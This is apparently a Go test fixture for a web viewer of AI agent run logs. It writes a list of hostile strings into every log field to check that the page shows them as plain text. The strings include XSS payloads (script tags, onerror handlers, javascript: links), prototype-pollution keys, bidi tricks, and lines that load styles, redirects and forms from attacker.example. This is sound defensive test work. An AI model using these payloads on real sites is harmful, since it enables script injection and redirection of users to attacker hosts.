package viewtest

import (
	"strings"
	"time"
)

// Hostile are texts that a page must show as text. Each text runs, loads or hides something if a page takes it for
// markup or code; then it sets window.pwned or asks a server.
var Hostile = []string{
	`<script>window.pwned=1</script>`,
	`</script><script>window.pwned=2</script>`,
	`<!--<script>`, `-->`, `]]>`,
	`<img src=x onerror="window.pwned=3">`,
	`<svg/onload=window.pwned=4>`,
	`"><iframe src="javascript:parent.pwned=5"></iframe>`,
	`[click](javascript:window.pwned=6)`,
	`<a href="javascript:window.pwned=7" autofocus onfocus="window.pwned=8">link</a>`,
	`<link rel=stylesheet href=http://attacker.example/a.css><meta http-equiv=refresh content="0;url=http://attacker.example/">`,
	`<style>@import 'http://attacker.example/b.css';body{display:none}</style>`,
	`<base href="http://attacker.example/">`,
	`{{constructor.constructor('window.pwned=9')()}}`, `${window.pwned=10}`,
	"\u2028window.pwned=11\u2029", "\x00\x01\x1b[31mred\x1b[0m\x1b]0;title\x07\u009b2J",
	"user\u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth \ufeffbom",
	`__proto__`, `constructor`, `&lt;b&gt;&amp;`, `<plaintext>`, `<title>pwned</title>`,
	`<form action=http://attacker.example><button autofocus>x`, `data:text/html,<script>alert(1)</script>`,
}

// HostileRecord writes every hostile text into every field of a record that a page shows, and lines that are not
// events.
func HostileRecord(w *Writer) {
	w.Event(0, "session_start", P{"phase": "run", "source": Hostile[1], "worker_model": Hostile[5],
		"evaluator_model": Hostile[0], "limits": P{"max_tokens": Hostile[3], Hostile[5]: 1, "max_cost": 1}})
	for i, h := range Hostile {
		id := "T-001"
		if i%2 == 1 {
			id = h
		}
		w.Event(time.Second, "context_reset", Task(id, 0, P{"base": h}))
		w.Event(time.Second, "prompt_assembled", Task(id, 1, P{"role": h, "content": h + "\n```" + h + "\n" + h}))
		w.Event(time.Second, "model_call",
			Task(id, 1, P{"content": h, "reasoning": h, "phase": h, "finish_reason": h, "health": h,
				"prompt_tokens": 10, "eval_tokens": h}))
		w.Event(time.Second, "tool_call",
			Task(id, 1,
				P{"tool": h, "args": P{"path": h, "command": h, "content": h, "old_string": h, "new_string": h, h: h}}))
		w.Event(time.Second, "tool_call",
			Task(id, 1, P{"tool": "submit_case",
				"args": P{"summary": h, "ac_coverage": []any{P{"criterion": h, "addressed_by": h, "evidence": h}, h,
					nil}, "work_arounds": []any{h, 1, nil}, "uncertainties": h}}))
		w.Event(time.Second, "tool_result", Task(id, 1, P{"tool": h, "result_preview": h, "result_chars": h}))
		w.Event(time.Second, "validator_run",
			Task(id, 1,
				P{"passed": h, "results": []any{P{"name": h, "passed": h, "seconds": h, "output": h}, h, nil, 5}}))
		w.Event(time.Second, "evaluator_verdict",
			Task(id, 1, P{"verdict": "reject", "rejection_category": h, "concern": h, "evidence": []any{h, P{h: h}},
				"next_step": h}))
		w.Event(time.Second, "memory_load", Task(id, 1, P{"channels": P{h: P{"present": h, "chars": h}, "x": h}}))
		w.Event(time.Second, "commit", Task(id, 1, P{"sha": h, "branch": h}))
		w.Event(time.Second, "task_failed", Task(id, 1, P{"reason": h}))
		w.Event(time.Second, "stop", P{"reason": h})
		w.Event(time.Second, h, P{h: h, "nested": P{h: []any{h, P{h: h}}}})
	}
	w.Event(time.Second, "commit", P{"sha": FirstSHA})
	for _, line := range []string{
		`5`, `"text"`, `[1,2]`, `null`, `{"torn":`, `not json at all <script>window.pwned=12</script>`, `{"a":1}{"b":2}`, "\xff\xfe\x00",
		`{"ts":5,"type":["x"],"payload":7}`, `{"ts":"2026-06-11T22:00:00Z","type":"model_call","payload":[1,"<img src=x onerror=window.pwned=13>"]}`,
		`{"type":"tool_call","payload":null}`, `{"type":"tool_call"}`, `{}`, `{"__proto__":{"polluted":1},"type":"__proto__","payload":{"__proto__":{"polluted":1},"task_id":"__proto__"}}`,
		"{\"type\":\"model_call\",\"payload\":{\"content\":\"broken \xff\xc0\xaf utf-8 \xed\xa0\x80 here\"}}",
		`{"type":"model_call","payload":{"content":"lone \ud800 surrogate \udc00 pair \ud83d\ude00"}}`,
		`{"ts":"2026-06-11T25:61:00Z","type":"nudge","payload":{"content":"a time that is none"}}`,
		`{"type":"nudge","payload":{"content":` + strings.Repeat("[", 3000) + strings.Repeat("]", 3000) + `}}`,
		`{"type":"tool_result","payload":{"task_id":"T-001","iter":1e300,"tool":"bash","result_preview":"` + strings.Repeat("A<b>", 10<<20/4) + `"}}`,
		`{"type":"tool_result","payload":{"tool":"bash","list":[` + strings.Repeat(`"x",`, 2<<20) + `"x"]}}`,
	} {
		w.Raw(line + "\n")
	}
	w.Event(time.Second, "stop", P{"reason": "all_done"})
	w.Raw(`{"type":"model_call","payload":{"content":"torn`)
	w.Flush()
}
